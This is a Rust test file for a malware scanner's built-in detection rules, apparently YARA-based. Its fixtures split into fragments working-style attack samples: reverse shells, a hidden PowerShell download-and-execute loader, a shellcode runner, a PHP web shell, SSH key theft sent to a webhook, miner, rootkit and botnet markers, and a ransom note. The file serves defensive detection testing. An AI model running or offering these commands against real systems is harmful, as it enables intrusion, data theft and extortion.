use super::*;

fn names(bytes: &[u8]) -> Vec<String> {
    let rules = Rules::own().expect("the own rules compile");
    let matched = rules.scan("a", bytes);
    assert!(matched.whole);
    matched
        .matches
        .into_iter()
        .map(|found| found.rule)
        .collect()
}

/// Attacks in parts, so that no file of this project is one.
fn attacks() -> Vec<(&'static str, Vec<u8>)> {
    let text = |parts: &[&str]| parts.concat().into_bytes();
    vec![
        (
            "reverse_shell_line",
            text(&["bash -i >& /dev/", "tcp/192.0.2.1/4444 0>&1"]),
        ),
        (
            "reverse_shell_line",
            text(&["nc -e /bin", "/sh 192.0.2.1 4444"]),
        ),
        (
            "powershell_loader",
            text(&[
                "powershell -w hidden -c \"IEX (New-Object Net.",
                "WebClient).DownloadString('http://192.0.2.1/a')\"",
            ]),
        ),
        (
            "shellcode_runner",
            text(&[
                "import ctypes\nb = b'",
                &"\\x90".repeat(50),
                "'\np = ctypes.windll.kernel32.Virtual",
                "Alloc(0, 50, 12288, 64)\nctypes.windll.kernel32.RtlMove",
                "Memory(p, b, 50)\nctypes.windll.kernel32.Create",
                "Thread(0, 0, p, 0, 0, 0)\n",
            ]),
        ),
        ("web_shell", text(&["<?php ev", "al($_POST['a']); ?>"])),
        (
            "script_host_loader",
            text(&[
                "Set s = CreateObject(\"WScript.",
                "Shell\")\nSet h = CreateObject(\"MSXML2.XML",
                "HTTP\")\nSet f = CreateObject(\"ADODB.",
                "Stream\")\ns.Run \"a.exe\"",
            ]),
        ),
        (
            "ransom_note",
            text(&[
                "All your files have been ",
                "encrypted. Send 1 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh for the ",
                "decryptor.",
            ]),
        ),
    ]
}

/// The same, of what is taken, mined or planted.
fn attacks_with_programs() -> Vec<(&'static str, Vec<u8>)> {
    let text = |parts: &[&str]| parts.concat().into_bytes();
    let elf = |rest: &[&str]| {
        let mut bytes = vec![0; 64];
        bytes[..4].copy_from_slice(b"\x7fELF");
        bytes[16] = 3;
        bytes.extend(rest.concat().bytes());
        bytes
    };
    vec![
        (
            "browser_secrets_sent",
            text(&[
                "'User Data/Default/Login",
                " Data' 'Local",
                " State' 'encrypted_",
                "key' CryptUnprotect",
                "Data",
            ]),
        ),
        (
            "keys_sent",
            text(&[
                "open('~/.ssh/id_",
                "rsa').read(); post('https://abc.webhook",
                ".site/x')",
            ]),
        ),
        (
            "coin_miner_settings",
            text(&[
                "{\"algo\": \"rx/0\", \"url\": \"stratum+",
                "tcp://pool.example:3333\", \"donate-",
                "level\": 1}",
            ]),
        ),
        (
            "coin_miner_program",
            elf(&[
                "XMRig donate-",
                "level donate.v2.xmrig",
                ".com stratum+tcp",
                "://",
            ]),
        ),
        (
            "reflective_implant",
            text(&["Reflective", "Loader\0beacon.x64", ".dll"]),
        ),
        (
            "preload_rootkit",
            elf(&[
                "/etc/ld.so.",
                "preload\0dlsym\0readdir64\0/proc/self/fd/\0/proc/net/",
                "tcp6\0",
            ]),
        ),
        (
            "bot_of_devices",
            elf(&[
                "/bin/busy",
                "box\0/dev/watch",
                "dog\0/proc/net/tcp\0/proc/net/route\0",
            ]),
        ),
        (
            "test_file_of_antivirus",
            b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
                .iter()
                .chain(b"EICAR-TEST")
                .copied()
                .collect(),
        ),
    ]
}

#[test]
fn each_own_rule_finds_its_attack_and_nothing_else_does() {
    let mut met = std::collections::BTreeSet::new();
    for (rule, bytes) in attacks().into_iter().chain(attacks_with_programs()) {
        assert_eq!(names(&bytes), [rule], "{}", String::from_utf8_lossy(&bytes));
        met.insert(rule);
    }
    let rules = Rules::own().expect("the own rules compile");
    let all: std::collections::BTreeSet<&str> = OWN_RULES.iter().copied().collect();
    assert_eq!(met, all);
    // Two more are private.
    assert_eq!(rules.len(), all.len() + 2);
}

const OWN_RULES: [&str; 14] = [
    "reverse_shell_line",
    "powershell_loader",
    "shellcode_runner",
    "script_host_loader",
    "web_shell",
    "browser_secrets_sent",
    "keys_sent",
    "coin_miner_settings",
    "coin_miner_program",
    "reflective_implant",
    "preload_rootkit",
    "bot_of_devices",
    "test_file_of_antivirus",
    "ransom_note",
];

#[test]
fn ordinary_texts_match_nothing() {
    for text in [
        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
        "Set the webhook: https://discord.com/api/webhooks/ID/TOKEN, then read ~/.aws/credentials",
        "xmrig is a miner; its pools are reached by stratum",
        "nc -l 4444 | tar x",
        "powershell -Command \"Invoke-WebRequest https://example.org/a.zip -OutFile a.zip\"",
        "buf = VirtualAlloc(NULL, size, MEM_COMMIT, PAGE_READWRITE); CreateThread(...)",
        "our files were encrypted at rest; the key is kept in a module",
        "subprocess.run(['/bin/sh', '-c', 'make'])",
    ] {
        assert_eq!(names(text.as_bytes()), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn a_rule_of_the_user_says_how_bad_it_is() {
    let text = r#"
        rule marked { meta: description = "the mark" severity = "medium" strings: $a = "MARK" condition: $a and filename == "m.bin" }
        rule scored { meta: score = 95 strings: $a = "MARK" condition: #a == 2 }
        rule plain { strings: $a = { 4d 41 ?? 4b } condition: $a at 3 }
        rule modules { condition: uint8(0) == 0x2e and filesize == 11 }
    "#;
    let rules = Rules::compile(&[File {
        name: "acme.yar",
        text,
    }])
    .expect("compiles");
    let matched = rules.scan("models/m.bin", b"...MARKMARK");
    let found: Vec<(&str, Strength, Option<u64>)> = matched
        .matches
        .iter()
        .map(|found| (found.rule.as_str(), found.strength, found.offset))
        .collect();
    assert_eq!(
        found,
        [
            ("marked", Strength::Medium, Some(3)),
            ("scored", Strength::Critical, Some(3)),
            ("plain", Strength::High, Some(3)),
            ("modules", Strength::High, None),
        ]
    );
    assert_eq!(matched.matches[0].description.as_deref(), Some("the mark"));
    assert_eq!(matched.matches[0].file, "acme.yar");
    assert_eq!(rules.scan("other", b"...MARKMARK").matches.len(), 3);
}

#[test]
fn a_mistake_names_its_file_and_no_file_is_included() {
    let broken = Rules::compile(&[File {
        name: "b.yar",
        text: "rule a { condition: $x }",
    }]);
    let error = broken.expect_err("no such string").to_string();
    assert!(
        error.starts_with("read the YARA rules of `b.yar`: "),
        "{error}"
    );
    let including = Rules::compile(&[File {
        name: "c.yar",
        text: "include \"/etc/passwd\"",
    }]);
    let error = including.expect_err("no includes").to_string();
    assert!(error.contains("include"), "{error}");
}
